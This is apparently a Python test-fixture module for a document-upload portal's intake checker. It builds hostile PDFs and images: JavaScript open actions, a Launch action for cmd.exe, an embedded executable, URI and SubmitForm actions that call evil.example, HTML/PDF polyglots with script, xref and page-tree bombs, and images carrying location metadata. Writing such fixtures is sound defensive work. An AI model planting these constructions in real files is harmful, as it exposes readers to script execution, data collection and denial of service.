"""Hostile and oversized files, built the way an attacker builds them: with pikepdf from a real
PDF, or byte by byte. Each is a file a reader would open; the portal must refuse it."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

from tests.conftest import make_pdf


def _edited(edit: Callable[[pikepdf.Pdf], None], text: str = "Verfügung") -> bytes:
    with pikepdf.open(io.BytesIO(make_pdf(text))) as pdf:
        edit(pdf)
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 720], A=action)
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))


def javascript_open_action() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        js = Dictionary(S=Name.JavaScript, JS=String("app.alert('pwned')"))
        pdf.Root.OpenAction = pdf.make_indirect(js)

    return _edited(edit)


def javascript_on_page_open() -> bytes:
    """JavaScript in a page's additional actions (/AA /O), written as a hex-escaped name."""

    def edit(pdf: pikepdf.Pdf) -> None:
        js = Dictionary(S=Name.JavaScript, JS=String("this.exportDataObject({})"))
        pdf.pages[0].AA = Dictionary(O=js)

    return _edited(edit)


def launch_link() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        _link(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe"), NewWindow=True))

    return _edited(edit)


def uri_open_action() -> bytes:
    """Opening the file calls a web address by itself (a tracking pixel of sorts)."""

    def edit(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://evil.example/seen"))

    return _edited(edit)


def harmless_actions() -> bytes:
    """Open at page 1 (/GoTo) and a web link: what ordinary letters do; accepted."""

    def edit(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0].obj
        pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]))
        _link(pdf, Dictionary(S=Name.URI, URI=String("https://www.lu.ch")))

    return _edited(edit)


def xfa_form() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        xdp = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xdp)

    return _edited(edit)


def embedded_file() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 a program", filename="update.exe")
        pdf.attachments["update.exe"] = spec

    return _edited(edit)


def encrypted_with_empty_password() -> bytes:
    """Opens in every reader without a prompt (empty user password), but it is encrypted."""
    with pikepdf.open(io.BytesIO(make_pdf("Verfügung"))) as pdf:
        out = io.BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(user="", owner="owner-secret", R=6))
        return out.getvalue()


def html_polyglot_head() -> bytes:
    """A valid PDF whose header comment is a web page: opened as .html, the script runs."""
    pdf = make_pdf("Rechnung")
    header, rest = pdf.split(b"\n", 1)
    return header + b"\n%<html><body><script>alert(document.domain)</script></body></html>\n" + rest


def html_polyglot_tail() -> bytes:
    """A valid PDF with a web page after %%EOF, beyond the first kilobyte."""
    return make_pdf("Rechnung") + b"\n<!DOCTYPE html><script>fetch('/api')</script>\n"


def html_inside_text() -> bytes:
    """A letter that shows "<script>" as text on its page: harmless, accepted."""
    return make_pdf("Bitte geben Sie nie <script> in das Formular ein.")


def many_pages(n: int, count: int | None = None) -> bytes:
    """n pages in one compressed object stream, with an xref stream: ~1 MB for 100,000. The
    page tree's /Count says `count` if given (a lie)."""
    return _packed(n, n, count or n)


def many_objects(n: int) -> bytes:
    """One page and n objects that nothing refers to: allowed up to 250,000, but slow to check
    (~2 s for 240,000 in ~1.8 MB)."""
    return _packed(n, 1, 1)


def _packed(n: int, pages: int, count: int) -> bytes:
    """A PDF whose n page objects, the first `pages` of them in the page tree, lie in one
    compressed object stream, with an xref stream."""
    first = 5
    page_ids = range(first, first + n)
    kids = b" ".join(b"%d 0 R" % i for i in page_ids[:pages])
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/MediaBox[0 0 595 842]/Count %d/Kids[%s]>>" % (count, kids),
    }
    for i in page_ids:
        objects[i] = b"<</Type/Page/Parent 2 0 R/Contents 4 0 R>>"
    numbers = sorted(objects)
    offsets, body, pos = [], [], 0
    for number in numbers:
        offsets.append(b"%d %d" % (number, pos))
        body.append(objects[number])
        pos += len(objects[number]) + 1
    head = b" ".join(offsets) + b"\n"
    packed = zlib.compress(head + b"\n".join(body) + b"\n")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    at = {3: len(out)}
    out += b"3 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n" % (
        len(numbers),
        len(head),
        len(packed),
    )
    out += packed + b"\nendstream\nendobj\n"
    content = b"BT /F1 12 Tf 72 720 Td (Seite) Tj ET"
    at[4] = len(out)
    out += b"4 0 obj\n<</Length %d>>stream\n%s\nendstream\nendobj\n" % (len(content), content)
    xref = first + n
    at[xref] = len(out)
    index = {number: k for k, number in enumerate(numbers)}
    rows = [b"\x00\x00\x00\x00\x00\xff\xff\xff"]
    for number in range(1, xref + 1):
        if number in at:
            rows.append(b"\x01" + at[number].to_bytes(4, "big") + b"\x00\x00\x00")
        else:
            rows.append(b"\x02" + (3).to_bytes(4, "big") + index[number].to_bytes(3, "big"))
    table = zlib.compress(b"".join(rows))
    out += b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 3]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % (
        xref,
        xref + 1,
        len(table),
    )
    out += b"stream\n" + table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % at[xref]
    return bytes(out)


def xref_bomb(size: int) -> bytes:
    """A one-page PDF whose compressed xref stream declares `size` objects: ~55 KB for 8
    million, which cost qpdf ~90 MB to read."""
    out = bytearray(b"%PDF-1.7\n")
    at = []
    for number, body in [
        (1, b"<</Type/Catalog/Pages 2 0 R>>"),
        (2, b"<</Type/Pages/Count 1/Kids[3 0 R]/MediaBox[0 0 595 842]>>"),
        (3, b"<</Type/Page/Parent 2 0 R>>"),
    ]:
        at.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    at.append(len(out))
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
    rows += [b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for offset in at]
    rows.append(b"\x00" * 7 * (size - 5))
    table = zlib.compress(b"".join(rows), 9)
    out += b"4 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % (
        size,
        len(table),
    )
    out += b"stream\n" + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at[-1]
    return bytes(out)


def submit_form_link() -> bytes:
    """A button that sends the form's data to a server on click."""

    def edit(pdf: pikepdf.Pdf) -> None:
        _link(pdf, Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")))

    return _edited(edit)


def page_tree_loop() -> bytes:
    """A page tree whose only kid is the tree itself: a naive counter never ends."""

    def edit(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Pages.Kids = Array([pdf.Root.Pages])

    return _edited(edit)


PNG_THEN_HTML = (
    b"\x89PNG\r\n\x1a\n<html><body><script>alert(document.cookie)</script></body></html>"
)


def png_with_metadata() -> bytes:
    """A real PNG with a text chunk and EXIF carrying a location."""
    image = Image.new("RGB", (40, 30), (200, 30, 30))
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "secret-home-address Musterweg 1")
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"  # Make
    exif[0x8825] = {1: "N", 2: (47.0, 3.0, 0.0)}  # GPS IFD: latitude
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=info, exif=exif)
    return out.getvalue()


def jpeg_with_exif() -> bytes:
    """A real JPEG with EXIF (camera, location, orientation) and a comment."""
    image = Image.new("RGB", (40, 30), (30, 30, 200))
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"
    exif[0x0112] = 6  # Orientation: rotate 90° to show
    exif[0x8825] = {1: "N", 2: (47.0, 3.0, 0.0)}
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"secret-home-address Musterweg 1")
    return out.getvalue()


def real_png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (0, 128, 0)).save(out, "PNG")
    return out.getvalue()


def warm_up_checkers() -> None:
    """Leave two intake checkers idle in this process, so that two concurrent requests each
    find one and the timing of a test is not the start of a child process (~0.3 s)."""
    from casefiles.documents import Intake, Upload

    with Intake() as first, Intake() as second:
        for intake in (first, second):
            intake.check(Upload("warm.pdf", io.BytesIO(make_pdf()))).close()
